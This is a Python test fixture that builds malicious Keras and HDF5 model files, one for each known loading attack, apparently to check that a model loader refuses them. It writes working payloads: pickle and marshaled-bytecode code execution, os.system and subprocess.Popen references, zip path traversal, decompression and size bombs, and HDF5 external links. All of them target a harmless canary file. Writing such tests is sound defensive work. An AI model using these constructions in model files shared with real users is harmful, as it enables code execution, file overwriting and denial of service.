"""Model files that would do harm, written by hand: one for each known way."""

import base64
import copy
import io
import json
import marshal
import pickle
import zipfile

import h5py
import keras
import numpy as np
from keras import layers

WEIGHTS = "model.weights.h5"


class Payloads:
    """Writes each file into a folder; all of them aim at the file `canary`."""

    def __init__(self, folder, canary):
        self.folder, self.canary = folder, canary
        self.path = folder / "classifier.keras"
        _classifier().save(self.path)
        _classifier().save(folder / "classifier.h5")

    def write(self, name):
        """The file of the payload with that name."""
        return PAYLOADS[name](self)

    def keras(self, name, change=None, members=None, compression=zipfile.ZIP_STORED):
        """The classifier with another configuration, or other members in the ZIP."""
        path = self.folder / f"{name}.keras"
        with zipfile.ZipFile(self.path) as source:
            kept = {n: source.read(n) for n in source.namelist()}
        config = json.loads(kept["config.json"])
        if change:
            change(config)
        kept["config.json"] = json.dumps(config).encode()
        with zipfile.ZipFile(path, "w", compression) as archive:
            for member, data in {**kept, **(members or {})}.items():
                if data is not None:
                    archive.writestr(member, data)
        return path

    def dense(self, name, **arguments):
        """The classifier with other arguments of its Dense layer."""

        def change(config):
            for layer in config["config"]["layers"]:
                if layer["class_name"] == "Dense":
                    layer["config"].update(arguments)

        return self.keras(name, change)

    def instead(self, name, module, class_name, config, registered_name=None):
        """The classifier with another thing in the place of its Dense layer."""

        def change(whole):
            for layer in whole["config"]["layers"]:
                if layer["class_name"] == "Dense":
                    layer["module"], layer["class_name"] = module, class_name
                    layer["registered_name"] = registered_name
                    layer["config"] = {"name": "payload", **config}

        return self.keras(name, change)

    def h5(self, name, change):
        """The classifier as an .h5 file, after a change to the open file."""
        path = self.folder / f"{name}.h5"
        path.write_bytes((self.folder / "classifier.h5").read_bytes())
        with h5py.File(path, "r+") as file:
            change(file)
        return path

    def weights(self, name, change):
        """The classifier as a .keras file, after a change to the weights inside."""
        with zipfile.ZipFile(self.path) as source:
            packed = io.BytesIO(source.read(WEIGHTS))
        with h5py.File(packed, "r+") as file:
            change(file)
        return self.keras(name, members={WEIGHTS: packed.getvalue()})


def _classifier():
    keras.utils.set_random_seed(0)
    image = keras.Input((6, 6, 1), name="image")
    flat = layers.Flatten(name="flat")(image)
    return keras.Model(image, layers.Dense(2, name="scores")(flat), name="victim")


def _code(canary):
    """Bytecode that writes to the canary when it is called."""
    source = f"lambda x: open({str(canary)!r}, 'w').write('owned') and x"
    return base64.b64encode(marshal.dumps(eval(source).__code__)).decode()


class _Bomb:
    """Writes to the canary when it is unpickled."""

    def __init__(self, canary):
        self.canary = canary

    def __reduce__(self):
        return open, (str(self.canary), "w")


def _lambda(p):
    value = [_code(p.canary), None, None]
    return {"class_name": "__lambda__", "config": {"value": value}}


def _function(module, name):
    return {
        "module": module,
        "class_name": "function",
        "config": name,
        "registered_name": name,
    }


def _old_lambda(p):
    def change(file):
        config = json.loads(file.attrs["model_config"])
        code = [_code(p.canary), None, None]
        for layer in config["config"]["layers"]:
            if layer["class_name"] == "Flatten":
                layer["class_name"] = "Lambda"
                layer["config"] = {
                    "name": "payload",
                    "function": code,
                    "function_type": "lambda",
                }
        file.attrs["model_config"] = json.dumps(config)
        file.attrs["keras_version"] = "2.4.0"

    return p.h5("code_in_an_old_lambda", change)


def _hidden_lambda(p):
    def change(config):
        flat = next(
            x for x in config["config"]["layers"] if x["class_name"] == "Flatten"
        )
        inner = copy.deepcopy(flat)
        inner.update(class_name="Lambda", config={"function": _lambda(p)})
        inner["config"]["name"] = "payload"
        flat["class_name"] = "TimeDistributed"
        flat["config"] = {"name": "outer", "layer": inner}

    return p.keras("code_in_a_wrapped_lambda", change)


def _compiled(p):
    def change(config):
        compiled = {"optimizer": "sgd", "loss": _function("os", "system")}
        config["config"]["layers"][-1]["compile_config"] = compiled

    return p.keras("function_in_what_was_compiled", change)


def _pickled_weights(p):
    packed = io.BytesIO()
    np.savez(packed, weights=np.array([_Bomb(p.canary)], dtype=object))
    members = {WEIGHTS: None, "model.weights.npz": packed.getvalue()}
    return p.keras("pickle_among_the_weights", members=members)


def _pickle(p):
    path = p.folder / "a_pickle.keras"
    path.write_bytes(pickle.dumps(_Bomb(p.canary)))
    return path


def _bomb_of_weights(p):
    members = {WEIGHTS: bytes(48 * 2**20)}
    return p.keras("zip_bomb", members=members, compression=zipfile.ZIP_DEFLATED)


def _declared(file):
    place = file if "layers" in file else file["model_weights"]
    place.create_dataset(
        "huge", shape=(10**6, 10**6), chunks=(1000, 1000), dtype="float32"
    )


def _external_link(target):
    def change(file):
        place = file if "layers" in file else file["model_weights"]
        place["elsewhere"] = h5py.ExternalLink(str(target), "/")

    return change


def _soft_link(file):
    place = file if "layers" in file else file["model_weights"]
    place["elsewhere"] = h5py.SoftLink("/nowhere")


def _external_storage(target):
    def change(file):
        place = file if "layers" in file else file["model_weights"]
        place.create_dataset("read", (4,), "uint8", external=[(str(target), 0, 4)])

    return change


def _virtual(target):
    def change(file):
        place = file if "layers" in file else file["model_weights"]
        layout = h5py.VirtualLayout((4,), "uint8")
        layout[:] = h5py.VirtualSource(str(target), "data", (4,))
        place.create_virtual_dataset("virtual", layout)

    return change


def _huge_layers(p):
    with keras.StatelessScope(initialize_variables=False):
        image = keras.Input((6, 6, 1))
        flat = layers.Dense(2 * 10**6)(layers.Flatten()(image))
        model = keras.Model(image, layers.Dense(10**6)(flat))
        config = keras.saving.serialize_keras_object(model)

    def change(whole):
        whole.clear()
        whole.update(config)

    return p.keras("layers_of_terabytes", change)


def _huge_old_layers(p):
    def change(file):
        config = json.loads(file.attrs["model_config"])
        for layer in config["config"]["layers"]:
            if layer["class_name"] == "Dense":
                layer["config"]["units"] = 10**11
        file.attrs["model_config"] = json.dumps(config)

    return p.h5("old_layers_of_terabytes", change)


def _deep(p):
    members = {"config.json": b'{"a":' * 10**5 + b"1" + b"}" * 10**5}
    return p.keras("nested_without_end", members=members)


def _name_as_path(p):
    def change(config):
        for layer in config["config"]["layers"]:
            if layer["class_name"] == "Dense":
                layer["config"]["name"] = layer["name"] = f"../../{p.canary.name}"

    return p.keras("layer_name_as_path", change)


def _graph(p):
    arguments = {"filepath": str(p.canary), "call_endpoint": "serve"}
    return p.instead("foreign_graph", "keras.layers", "TFSMLayer", arguments)


def _module(p):
    data = {"class_name": "__bytes__", "config": {"value": pickle.dumps(0, 0).decode()}}
    return p.instead(
        "pickled_module", "keras.layers", "TorchModuleWrapper", {"module": data}
    )


def _vocabulary(p):
    return p.instead(
        "path_as_vocabulary",
        "keras.layers",
        "StringLookup",
        {"vocabulary": str(p.canary)},
    )


PAYLOADS = {
    "code in an activation": lambda p: p.dense("code", activation=_lambda(p)),
    "code in a Lambda": lambda p: p.instead(
        "code_in_a_lambda", "keras.layers", "Lambda", {"function": _lambda(p)}
    ),
    "code in a Lambda of Keras 2": _old_lambda,
    "code in a wrapped Lambda": _hidden_lambda,
    "module by name": lambda p: p.dense(
        "module_by_name", activation=_function("os", "system")
    ),
    "class by name": lambda p: p.instead(
        "class_by_name", "subprocess", "Popen", {"args": ["touch", str(p.canary)]}
    ),
    "class that was registered elsewhere": lambda p: p.instead(
        "registered", "payload.layers", "Owned", {}, "payload>Owned"
    ),
    "function of Keras that fetches files": lambda p: p.dense(
        "gadget", activation=_function("keras.utils", "get_file")
    ),
    "function of Keras that unlocks": lambda p: p.dense(
        "unlock",
        activation=_function("keras.config", "enable_unsafe_deserialization"),
    ),
    "function of Keras that loads models": lambda p: p.dense(
        "loader", kernel_initializer=_function("keras.models", "load_model")
    ),
    "function in what was compiled": _compiled,
    "foreign graph": _graph,
    "pickled module": _module,
    "path as vocabulary": _vocabulary,
    "pickle": _pickle,
    "pickle among the weights": _pickled_weights,
    "member above the folder": lambda p: p.keras(
        "above", members={f"../{p.canary.name}": b"owned"}
    ),
    "member by absolute path": lambda p: p.keras(
        "absolute", members={str(p.canary): b"owned"}
    ),
    "member above the assets": lambda p: p.keras(
        "assets", members={f"assets/../../{p.canary.name}": b"owned"}
    ),
    "bomb of zeros": _bomb_of_weights,
    "declared size in .keras": lambda p: p.weights("declared", _declared),
    "declared size in .h5": lambda p: p.h5("declared", _declared),
    "layers of terabytes": _huge_layers,
    "layers of terabytes in .h5": _huge_old_layers,
    "nested without end": _deep,
    "layer name as path": _name_as_path,
}
for _ending in ("keras", "h5"):
    for _name, _change in {
        "external link": lambda p: _external_link(p.canary),
        "soft link": lambda p: _soft_link,
        "external storage": lambda p: _external_storage(p.canary),
        "virtual data set": lambda p: _virtual(p.canary),
    }.items():
        PAYLOADS[f"{_name} in .{_ending}"] = (
            lambda p, change=_change, ending=_ending, name=_name: (
                p.weights if ending == "keras" else p.h5
            )(name.replace(" ", "_"), change(p))
        )
